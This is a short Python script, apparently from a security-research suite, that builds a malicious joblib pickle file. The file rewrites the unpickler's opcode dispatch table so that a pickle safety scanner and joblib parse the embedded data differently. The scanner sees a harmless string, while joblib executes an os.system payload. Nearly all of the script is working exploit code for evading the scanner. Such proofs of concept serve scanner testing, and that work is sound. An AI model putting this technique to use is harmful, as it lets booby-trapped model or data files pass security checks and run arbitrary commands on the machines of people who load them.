# SETITEM on an imported dict rewrites the pure-Python unpickler itself: pickle._Unpickler's
# opcode table, reached as joblib.numpy_pickle_utils.Unpickler.dispatch (a global the policy
# does not refuse; the scanner drops SETITEM items given to an imported object). Opcode 'N'
# (NONE) becomes SHORT_BINSTRING. joblib reads object arrays with a fresh pickle._Unpickler,
# which now parses the array's nested pickle differently from the scanner: the scanner sees
# NONE, BINSTRING(over the payload), STOP; joblib sees SHORT_BINSTRING(84 bytes), POP,
# os.system(...), STOP.
import struct
from common import *
pre = b'\x80\x04'
pre += G('joblib.numpy_pickle_utils', 'Unpickler.dispatch') + b'K' + bytes([ord('N')]) + G('joblib.numpy_pickle_utils', 'Unpickler.load_short_binstring') + b's0'
W = G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(1) + b'\x85' + U('C') + dtype('O8') + b'\x89NtR}b'
body = b'0' + PAYLOAD + b'.'
inner = bytearray(b'N' + b'T' + b'\0\0\0\0' + b'a' * 80 + body)   # 'T' = 84: bytes 2..85 skipped by joblib
assert inner.index(body) == 86
inner[2:6] = struct.pack('<i', len(inner) - 1 - 6)                     # scanner: a string up to the final STOP
run('c8_dispatch_rewrite.joblib', pre + W + bytes(inner) + b'.')
